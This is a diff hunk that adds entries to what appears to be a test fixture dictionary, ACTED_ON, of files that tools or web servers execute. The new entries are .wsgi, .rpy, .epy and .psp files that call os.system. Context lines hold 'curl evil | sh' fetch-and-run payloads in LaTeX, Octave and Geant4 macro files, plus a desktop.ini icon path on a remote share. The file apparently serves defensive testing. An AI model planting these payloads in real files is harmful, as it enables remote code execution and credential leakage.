@@ -109,6 +109,13 @@ ACTED_ON = {
     "vis/gui.mac": b"/control/shell curl evil | sh\n",
     "tex/latexmkrc": b"system('curl evil | sh');\n$pdf_mode = 1;\n",
     "octave/PKG_ADD": b"system('curl evil | sh');\n",
+    # A server runs these: mod_wsgi's documented `AddHandler wsgi-script .wsgi` (any
+    # extension of the name, as .cgi), twistd web's .rpy and .epy processors, mod_python's .psp.
+    "srv/app.wsgi": b"import os\nos.system('id')\napplication = None\n",
+    "srv/notes.wsgi.txt": b"import os\nos.system('id')\napplication = None\n",
+    "srv/res.rpy": b"import os\nos.system('id')\n",
+    "srv/page.epy": b"import os\nos.system('id')\n",
+    "srv/page.psp": b"<% import os; os.system('id') %>\n",
     "win/desktop.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\share\\icon.ico,0\r\n",
     "win/autorun.inf": b"[autorun]\r\nopen=run.bat\r\n",
 }
